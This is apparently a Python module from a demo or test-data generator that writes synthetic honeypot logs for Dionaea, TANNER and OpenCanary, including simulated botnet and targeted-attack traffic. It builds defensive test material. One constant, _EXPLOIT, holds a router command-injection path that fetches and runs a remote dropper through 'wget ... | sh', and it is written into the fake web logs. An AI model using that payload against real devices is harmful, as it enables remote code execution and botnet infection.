"""Dionaea, TANNER and OpenCanary in the generated world: the other honeypots."""

from collections.abc import Iterator
from datetime import datetime
from hashlib import md5
from operator import itemgetter
from pathlib import Path
from random import Random
from uuid import UUID

from cure.demo.bystanders import CRAWLER, SENSOR_ADDRESS, crawler, stranger
from cure.demo.files import iso, write_database, write_lines
from cure.demo.world import Delivery, World, happens

_VISITS_A_DAY = 70
_REQUESTS_A_DAY = 50
_CRAWLED = 0.4
_TOUCHES_A_DAY = 8
_SERVICES = (("smbd", 445), ("smbd", 445), ("mssqld", 1433), ("ftpd", 21), ("SipSession", 5060))
_CLOSED = ("pcap", 8081)
_SCHEMA = """
CREATE TABLE connections (connection INTEGER PRIMARY KEY, connection_type TEXT,
    connection_transport TEXT, connection_protocol TEXT, connection_timestamp REAL,
    connection_root INTEGER, connection_parent INTEGER, local_host TEXT, local_port INTEGER,
    remote_host TEXT, remote_hostname TEXT, remote_port INTEGER);
CREATE TABLE downloads (download INTEGER PRIMARY KEY, connection INTEGER, download_url TEXT,
    download_md5_hash TEXT);
CREATE TABLE logins (login INTEGER PRIMARY KEY, connection INTEGER, login_username TEXT,
    login_password TEXT);
"""
_PATHS = ("/", "/robots.txt", "/index.html", "/.env", "/wp-login.php", "/phpmyadmin/")
_EXPLOIT = "/cgi-bin/luci/;stok=/locale?form=country&country=$(wget {} -O-|sh)"
_Seen = tuple[datetime, str]


def write(world: World, folder: Path) -> Iterator[Delivery]:
    """Write what each honeypot keeps."""
    own = folder / "dionaea"
    write_lines(own / "tokyo-1" / "dionaea.json", _dionaea_lines(world))
    yield Delivery("dionaea", "tokyo-1", own / "tokyo-1")
    write_database(own / "osaka-1" / "dionaea.sqlite", _SCHEMA, _dionaea_tables(world))
    yield Delivery("dionaea", "osaka-1", own / "osaka-1")
    write_lines(folder / "tanner" / "tanner_report.json", _tanner(world))
    yield Delivery("glastopf", "web-1", folder / "tanner")
    write_lines(folder / "opencanary" / "opencanary.log", _opencanary(world))
    yield Delivery("opencanary", "roof", folder / "opencanary")


def _visits(world: World, dice: Random) -> Iterator[_Seen]:
    """Yield who came when: strangers, and the botnet now and then."""
    botnet = world.campaigns.botnet
    for moment in world.moments(dice, _VISITS_A_DAY):
        is_botnet = happens(dice, 0.1) and world.has_come(botnet, 1, moment)
        yield moment, dice.choice(botnet.attackers) if is_botnet else stranger(world, dice)


def _dionaea_lines(world: World) -> Iterator[dict[str, object]]:
    dice = world.dice("dionaea tokyo-1")
    for moment, source in _visits(world, dice):
        is_open = happens(dice, 0.8)
        protocol, port = dice.choice(_SERVICES) if is_open else _CLOSED
        kind = "accept" if is_open else "reject"
        said = {
            "connection": {"protocol": protocol, "transport": "tcp", "type": kind},
            "dst_ip": SENSOR_ADDRESS,
            "dst_port": port,
            "src_hostname": "",
            "src_ip": source,
            "src_port": dice.randrange(1024, 65_536),
            "timestamp": iso(moment, ""),
        }
        if protocol == "mssqld":
            said["credentials"] = {"username": ["sa"], "password": [dice.choice(("", "sa", "1"))]}
        yield said


def _dionaea_tables(world: World) -> dict[str, list[tuple[object, ...]]]:
    dice = world.dice("dionaea osaka-1")
    connections: list[tuple[object, ...]] = []
    downloads: list[tuple[object, ...]] = []
    logins: list[tuple[object, ...]] = []
    for number, (moment, source) in enumerate(_visits(world, dice), 1):
        protocol, port = dice.choice(_SERVICES)
        ends = (SENSOR_ADDRESS, port, source, "", dice.randrange(1024, 65_536))
        time = moment.timestamp()
        connections.append((number, "accept", "tcp", protocol, time, number, None, *ends))
        if protocol == "smbd" and happens(dice, 0.05):
            worm = f"{world.seed} worm {dice.randrange(12)}".encode()
            digest = md5(worm, usedforsecurity=False).hexdigest()
            downloads.append((len(downloads) + 1, number, "", digest))
        if protocol == "mssqld":
            logins.append((len(logins) + 1, number, "sa", dice.choice(("", "sa", "password"))))
    return {"connections": connections, "downloads": downloads, "logins": logins}


def _tanner(world: World) -> Iterator[dict[str, object]]:
    dice = world.dice("tanner")
    botnet = world.campaigns.botnet
    asked: list[tuple[datetime, str, str, str]] = []
    for moment in world.moments(dice, _REQUESTS_A_DAY):
        if happens(dice, _CRAWLED):
            asked.append((moment, crawler(dice), dice.choice(_PATHS[:3]), CRAWLER))
        else:
            asked.append((moment, stranger(world, dice), dice.choice(_PATHS), "Mozilla/5.0"))
    for moment in world.moments(dice, 4):
        if world.has_come(botnet, 2.5, moment):
            path = _EXPLOIT.format(botnet.dropper)
            asked.append((moment, dice.choice(botnet.attackers), path, "Hello, World"))
    for moment, source, path, agent in sorted(asked, key=itemgetter(0)):
        name = "cmd_exec" if "wget" in path else "index"
        detection = {"name": name, "order": 1, "type": 1, "version": "0.6.0"}
        yield {
            "method": "GET",
            "path": path,
            "headers": {"host": SENSOR_ADDRESS, "user-agent": agent},
            "uuid": str(UUID(int=dice.getrandbits(128))),
            "peer": {"ip": source, "port": dice.randrange(1024, 65_536)},
            "status": 200,
            "cookies": {"sess_uuid": None},
            "response_msg": {
                "version": "0.6.0",
                "response": {"message": {"detection": detection, "sess_uuid": None}},
            },
            "timestamp": iso(moment, ""),
        }


def _opencanary(world: World) -> Iterator[dict[str, object]]:
    """Yield touches of decoys near our servers; the targeted attack begins with some."""
    dice = world.dice("opencanary")
    targeted = world.campaigns.targeted
    touches = [(moment, stranger(world, dice)) for moment in world.moments(dice, _TOUCHES_A_DAY)]
    touches += [
        (world.told(targeted, dice.uniform(-0.9, 0.5)), source) for source in targeted.attackers[:5]
    ]
    for moment, source in sorted(touches):
        time = f"{moment:%Y-%m-%d %H:%M:%S.%f}"
        logtype, port, said = dice.choice(
            (
                (2000, 21, {"USERNAME": "admin", "PASSWORD": "autumn"}),
                (3000, 80, {"PATH": "/index.html", "USERAGENT": "Mozilla/5.0"}),
                (14001, 3389, {"USERNAME": "Administrator"}),
            )
        )
        yield {
            "node_id": "canary-roof",
            "local_time": time,
            "local_time_adjusted": time,
            "utc_time": time,
            "dst_host": SENSOR_ADDRESS,
            "dst_port": port,
            "src_host": source,
            "src_port": dice.randrange(1024, 65_536),
            "logtype": logtype,
            "logdata": said,
        }
